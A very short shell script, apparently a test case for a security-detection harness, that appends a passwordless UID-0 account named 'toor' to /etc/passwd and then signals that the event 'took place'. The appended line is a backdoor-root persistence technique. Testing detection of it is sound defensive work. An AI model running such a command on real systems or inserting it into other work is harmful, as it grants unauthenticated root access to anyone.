#!/bin/sh
. /opt/case/case.sh

echo 'toor::0:0::/:/bin/sh' >>/etc/passwd
took_place
